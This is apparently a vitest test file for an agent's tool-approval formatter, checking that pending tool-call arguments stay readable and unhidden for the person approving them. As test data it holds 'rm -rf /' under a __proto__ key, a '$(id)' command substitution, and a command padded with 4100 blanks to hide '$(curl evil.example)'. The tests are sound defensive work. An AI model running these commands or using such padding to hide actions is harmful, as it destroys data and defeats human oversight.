import { describe, expect, it } from 'vitest';
import type { ApprovalRequest } from '../policy/policy-types.js';
import { formatApprovalRequest } from './format-approval-request.js';

const request = (
  args: Record<string, unknown>,
  keys: readonly string[] = ['*'],
): ApprovalRequest => ({
  callId: 'c1',
  tool: { name: 'run', description: 'Runs a command.\nSecond line is not shown.' },
  origin: 'shell',
  trusted: true,
  arguments: args,
  class: 'write',
  claimed: {},
  effective: {
    readOnlyHint: false,
    destructiveHint: false,
    idempotentHint: false,
    openWorldHint: true,
  },
  approvalKeys: keys,
  reason: 'asks',
  position: 1,
  total: 1,
  remember: ['once', 'session', 'always'],
});

describe('formatApprovalRequest', () => {
  it('shows only the first line of the description', () => {
    const text = formatApprovalRequest(request({})).join('\n');
    expect(text).toContain('Runs a command.');
    expect(text).not.toContain('Second line');
  });

  it('prints cycles, bigints, functions and dates without throwing', () => {
    const looped: Record<string, unknown> = { name: 'loop' };
    looped.self = looped;
    const text = formatApprovalRequest(
      request({ looped, big: 10n, fn: () => 1, at: new Date('2025-01-01T00:00:00Z') }),
    ).join('\n');
    expect(text).toContain('"self": "[circular]"');
    expect(text).toContain('"big": "10n"');
    expect(text).toContain('"fn": "[function]"');
    expect(text).toContain('"at": "2025-01-01T00:00:00.000Z"');
  });

  it('shows a value seen twice (not a cycle) in full both times', () => {
    const shared = { id: 7 };
    const text = formatApprovalRequest(request({ a: shared, b: shared })).join('\n');
    expect(text.match(/"id": 7/gu)).toHaveLength(2);
  });

  it('shows arguments named __proto__ or constructor like any other', () => {
    const args = JSON.parse('{"__proto__": {"hidden": "rm -rf /"}, "constructor": "x"}');
    const text = formatApprovalRequest(request(args)).join('\n');
    expect(text).toContain('"__proto__": {');
    expect(text).toContain('"hidden": "rm -rf /"');
    expect(text).toContain('"constructor": "x"');
  });

  it('cuts deep nesting and notes it', () => {
    const deep = { a: { b: { c: { d: { e: { f: { g: { h: 'bottom' } } } } } } } };
    const text = formatApprovalRequest(request(deep)).join('\n');
    expect(text).not.toContain('bottom');
    expect(text).toContain('arguments shortened for display');
  });

  it('adds no note when nothing was cut', () => {
    const text = formatApprovalRequest(request({ path: 'a' })).join('\n');
    expect(text).not.toContain('shortened');
  });

  it('honours maxStringLength and maxArgumentLines', () => {
    const lines = formatApprovalRequest(
      request({ a: 'abcdefghij', list: Array.from({ length: 15 }, (_, i) => i) }),
      { maxStringLength: 4, maxArgumentLines: 5 },
    );
    const text = lines.join('\n');
    expect(text).toContain('"abcd… (+6 chars)"');
    expect(text).toContain('more lines');
    expect(text).not.toContain('    14');
  });

  it('lists every key nothing covers yet: those are what a person approves', () => {
    const keys = Array.from({ length: 14 }, (_, i) => `file:${i}`);
    const text = formatApprovalRequest(request({}, keys)).join('\n');
    for (const key of keys) expect(text).toContain(`- ${key} — needs approval`);
  });

  it('lists at most ten keys already covered, then how many more', () => {
    const keys = Array.from({ length: 14 }, (_, i) => `file:${i}`);
    const text = formatApprovalRequest({
      ...request({}, [...keys, 'file:new']),
      keyNotes: [
        ...keys.map((key) => ({ key, covered: 'approved earlier in this session' })),
        { key: 'file:new' },
      ],
    }).join('\n');
    expect(text).toContain('- file:new — needs approval');
    expect(text).toContain('- file:9 — approved earlier in this session');
    expect(text).not.toContain('- file:10');
    expect(text).toContain('… and 4 more already covered');
  });

  it('lists the parts it could not understand and marks those that may hide a command', () => {
    const text = formatApprovalRequest({
      ...request({ command: 'git status $(id)' }, ['git status', 'id']),
      opaque: [
        { reason: 'command substitution $(id)' },
        { reason: 'sets PAGER, which may change what programs run', hidesCommand: true },
      ],
    }).join('\n');
    expect(text).toContain('Not fully understood, so it can be allowed once only:');
    expect(text).toContain('- command substitution $(id)');
    expect(text).toContain(
      '- sets PAGER, which may change what programs run (it may run a command not listed above)',
    );
  });

  it('shows a run of padding blanks as a count, so text after it stays in view', () => {
    const command = `git status${' '.repeat(4100)}$(curl evil.example)`;
    const text = formatApprovalRequest(request({ command })).join('\n');
    expect(text).toContain('git status⟨4100 blanks⟩$(curl evil.example)');
    expect(text).not.toContain('shortened');
  });

  it('gives the digest of the arguments when it shortens them', () => {
    const text = formatApprovalRequest(request({ content: 'x'.repeat(500) })).join('\n');
    expect(text).toMatch(/arguments shortened for display; their digest is sha256:[0-9a-f]{64}/);
  });

  it('uses colour codes only when asked to', () => {
    expect(formatApprovalRequest(request({})).join('\n')).not.toContain('\u001b');
    expect(formatApprovalRequest(request({}), { color: true }).join('\n')).toContain('\u001b[1m');
  });
});
